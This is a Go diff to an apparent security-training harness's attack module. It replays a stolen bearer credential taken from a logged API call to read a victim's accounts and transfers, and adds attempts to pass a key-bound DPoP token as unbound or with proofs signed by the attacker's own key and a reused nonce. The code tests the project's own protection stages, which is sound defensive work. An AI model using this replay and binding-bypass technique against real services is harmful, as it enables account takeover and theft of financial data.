@@ -6,17 +6,22 @@ import (
 	"fmt"
 	"net/http"
 	"strings"
+	"time"
 
 	"keyladder/internal/problem"
 	"keyladder/mobileclient/attacker/attack"
 	"keyladder/stages/catalog"
+	"keyladder/stages/mechanism/dpop"
+	"keyladder/stages/mechanism/session"
+	"keyladder/stages/mechanism/token"
 	"keyladder/stages/protect"
 )
 
 // stolenBearer takes what stands for the user out of a call that was logged behind the
 // end of TLS, and no proof of the app, and uses it in a call of its own from there. The log
 // holds no secret with which the app could be imitated. What apps are registered under is no
-// secret, and no proof either: where that is all that they say of themselves, it goes along.
+// secret, and no proof either: where that is all that they say of themselves, it goes along. A token
+// that is bound to a key is shown as one that is not, and with a proof of a key that we have.
 //
 //keyladder:code attack-stolen-bearer
 func stolenBearer(ctx context.Context, g *attack.Given) (attack.Result, error) {
@@ -26,7 +31,7 @@ func stolenBearer(ctx context.Context, g *attack.Given) (attack.Result, error) {
 	var bearer *attack.Captured
 	for _, call := range g.Inside.Calls() {
 		scheme, _, _ := strings.Cut(call.Header.Get("Authorization"), " ")
-		if strings.EqualFold(scheme, "Session") || strings.EqualFold(scheme, "Bearer") {
+		if strings.EqualFold(scheme, session.Scheme) || strings.EqualFold(scheme, token.Scheme) || strings.EqualFold(scheme, token.BoundScheme) {
 			bearer = &call
 		}
 	}
@@ -34,8 +39,9 @@ func stolenBearer(ctx context.Context, g *attack.Given) (attack.Result, error) {
 		return attack.Result{}, errors.New("no call in the log carries anything that stands for its user")
 	}
 	g.Say("In the log: %s %s, with a credential that stands for the victim.", bearer.Method, bearer.Target)
-	taken := []string{bearer.Header.Get("Authorization")}
-	accounts, err := readWith(ctx, g, bearer, "/v1/accounts")
+	_, credential, _ := strings.Cut(bearer.Header.Get("Authorization"), " ")
+	taken := []string{credential}
+	show, accounts, err := firstServed(ctx, g, bearer, credential)
 	if err != nil {
 		result, err := attack.Stopped(err)
 		result.Stolen = taken
@@ -45,19 +51,72 @@ func stolenBearer(ctx context.Context, g *attack.Given) (attack.Result, error) {
 	if err != nil {
 		return attack.Result{}, err
 	}
-	transfers, err := readWith(ctx, g, bearer, "/v1/accounts/"+from.ID+"/transfers")
+	transfers, err := readWith(ctx, g, bearer, show, "/v1/accounts/"+from.ID+"/transfers")
 	if err != nil {
 		return attack.Stopped(err)
 	}
 	return attack.Result{Claim: true, Data: string(accounts) + "\n" + string(transfers), Stolen: taken}, nil
 }
 
+// shown is a way to show a credential in a call.
+type shown struct {
+	how  string
+	show func(header http.Header, path string) error
+}
+
+// firstServed reads the accounts with a credential, in the first way to show it that is served.
+func firstServed(ctx context.Context, g *attack.Given, stolen *attack.Captured, credential string) (show shown, accounts []byte, err error) {
+	asItWas := shown{"as it was", func(header http.Header, _ string) error {
+		header.Set("Authorization", stolen.Header.Get("Authorization"))
+		return nil
+	}}
+	ways := []shown{asItWas}
+	if g.Stage.Call.Sender != catalog.AnySender {
+		ways = []shown{
+			{"as " + token.Scheme, func(header http.Header, _ string) error {
+				token.Set(header, credential)
+				return nil
+			}},
+			{"as " + token.BoundScheme + ", with a proof of our own key", proofs(g, stolen, credential)},
+		}
+	}
+	for _, show = range ways {
+		accounts, err = readWith(ctx, g, stolen, show, "/v1/accounts")
+		if refused := (*attack.Refusal)(nil); !errors.As(err, &refused) {
+			return show, accounts, err
+		}
+	}
+	return show, accounts, err
+}
+
+// proofs shows a token with proofs of a key of the attacker's own. The nonce in them is one that the server
+// has given to somebody else.
+func proofs(g *attack.Given, stolen *attack.Captured, credential string) func(http.Header, string) error {
+	return func(header http.Header, path string) error {
+		caller, err := g.Caller(protect.Identity{})
+		if err != nil {
+			return err
+		}
+		target, err := caller.URL(path)
+		if err != nil {
+			return err
+		}
+		token.SetBound(header, credential)
+		about := dpop.Request{Method: http.MethodGet, URL: target.String(), Token: credential}
+		proof, err := dpop.Sign(caller.Identity().Key, about, dpop.NonceOf(stolen.Header.Get(dpop.Field)), time.Now())
+		if err == nil {
+			dpop.Set(header, proof)
+		}
+		return err
+	}
+}
+
 // readWith reads from the API with the credential of a captured call alone. The machine
 // behind the end of TLS says which client certificate it has seen.
-func readWith(ctx context.Context, g *attack.Given, stolen *attack.Captured, path string) ([]byte, error) {
-	header := http.Header{
-		"User-Agent": {attack.PublicUserAgent}, "Accept": {protect.JSON},
-		"Authorization": {stolen.Header.Get("Authorization")},
+func readWith(ctx context.Context, g *attack.Given, stolen *attack.Captured, as shown, path string) ([]byte, error) {
+	header := http.Header{"User-Agent": {attack.PublicUserAgent}, "Accept": {protect.JSON}}
+	if err := as.show(header, path); err != nil {
+		return nil, err
 	}
 	if g.Stage.Call.AppProof == catalog.AppKey {
 		field := g.Stage.Call.AppProofField()
@@ -69,6 +128,6 @@ func readWith(ctx context.Context, g *attack.Given, stolen *attack.Captured, pat
 	if err != nil {
 		return nil, err
 	}
-	g.Say("Sent GET %s with that credential and no proof of the app: %d.", path, status)
+	g.Say("Sent GET %s with that credential, %s, and no proof of the app: %d.", path, as.how, status)
 	return body, attack.Judge(status, problem.ContentType, body)
 }
